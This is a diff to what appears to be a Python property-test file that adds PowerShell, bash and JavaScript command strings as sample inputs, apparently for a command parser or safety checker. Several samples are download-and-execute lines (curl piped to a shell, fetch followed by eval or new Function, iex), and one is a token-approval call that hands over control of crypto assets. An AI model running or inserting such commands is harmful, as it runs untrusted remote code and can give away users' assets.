@@ -33,15 +33,22 @@ LONG = {
 SHORT = {
     "powershell": st.sampled_from(
         ['iwr "https://example.test/a.ps1" -OutFile $env:TEMP\\a.ps1', "Get-Item C:\\$x\\y",
-         "$a = @{b=1}; $a.b", "powershell -NoExit Get-ChildItem", '"unclosed', "", "\x00$"]
+         "$a = @{b=1}; $a.b", "powershell -NoExit Get-ChildItem", '"unclosed', "", "\x00$",
+         # PowerShell -c's script as CommandLineToArgvW hands it over, an applet's tab apart
+         'echo ok\\ ; iex (b)', 'echo ok\\" ; iex (b)"', "mmsys.cpl ,1",
+         "eventvwr.msc /c:Application"]
     ),
     "bash": st.sampled_from(
         ["curl -fsSL https://example.test/i.sh | bash", "echo a#b # c", "x=${y#*/}; echo $x",
-         "cat <<EOF\n$(id)\nEOF", "'unclosed", "", "\x00#"]
+         "cat <<EOF\n$(id)\nEOF", "'unclosed", "", "\x00#",
+         "pip install git+https://github.com/acme-test/widget.git@fix-typo",
+         "curl -sfL https://get.k3s.io:8443/ | sh -"]
     ),
     "javascript": st.sampled_from(
         ["fetch('https://example.test/a').then(r=>r.text()).then(eval)", "`${a}`", "/*", "",
-         "\x00"]
+         "\x00", "contract.setApprovalForAll('0x5555000000000000000000000000000000000042', !0)",
+         "(0, eval)(await (await fetch(u)).text())",
+         "new Function(await fetch(u).then(r => r.text()))()"]
     ),
 }  # fmt: skip
 
